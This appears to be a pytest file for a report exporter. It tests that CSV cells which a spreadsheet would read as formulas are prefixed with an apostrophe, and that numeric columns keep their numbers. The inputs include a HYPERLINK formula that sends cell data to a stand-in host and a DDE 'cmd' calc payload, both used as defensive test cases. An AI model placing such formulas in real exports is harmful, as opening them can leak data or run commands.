"""The desk's CSV cells cannot be spreadsheet formulas (OWASP's CSV injection guidance), numbers stay numbers,
and the page carries the exported text only where it differs from what a cell shows."""

from __future__ import annotations

import polars as pl
import pytest

from palimpsest_pipeline.report.desk import csv_cell, render_desk_table
from palimpsest_pipeline.report.table_spec import Column, DeskTable


@pytest.mark.parametrize(
    ("text", "numeric", "exported"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"odds")', False, '\'=HYPERLINK("http://x.example/?"&A1,"odds")'),
        ("+44 Lions v Tigers", False, "'+44 Lions v Tigers"),
        ("-1+1", False, "'-1+1"),
        ("@SUM(A1:A9)", False, "'@SUM(A1:A9)"),
        ("\t=1+1", False, "'\t=1+1"),
        ("\r=1+1", False, "'\r=1+1"),
        ("-1", False, "'-1"),  # a text column's "-1" is a name, exported as text
        ("-3.5", True, "-3.5"),  # a numeric column's negative number stays a number
        ("+2", True, "+2"),
        ("-1e-05", True, "-1e-05"),
        ("-inf", True, "'-inf"),  # not a plain number: a spreadsheet would parse it as a formula
        ("=1+1", True, "'=1+1"),
        ("Lions v Tigers", False, "Lions v Tigers"),
        ("Lions = Tigers", False, "Lions = Tigers"),  # only the first character matters
        (" =1+1", False, " =1+1"),
        ("", False, ""),
        ("2026-05-05 15:00", False, "2026-05-05 15:00"),
    ],
)
def test_a_cell_that_would_be_a_formula_is_prefixed(text: str, numeric: bool, exported: str) -> None:
    assert csv_cell(text, numeric=numeric) == exported


def test_the_page_carries_the_exported_text_only_for_cells_that_need_it() -> None:
    table = DeskTable(
        "t",
        "T",
        "caption",
        (Column("name", "Name"), Column("gap", "Gap", numeric=True)),
        pl.DataFrame({"name": ["=cmd|' /C calc'!A0", "Lions"], "gap": [-2.5, 1.0]}),
        "empty",
    )
    page = render_desk_table(table, "ng")
    assert '<td data-csv="&#x27;=cmd|&#x27; /C calc&#x27;!A0">=cmd|&#x27; /C calc&#x27;!A0</td>' in page
    assert "<td>-2.5</td>" in page and "<td>Lions</td>" in page
    assert page.count("data-csv") == 1
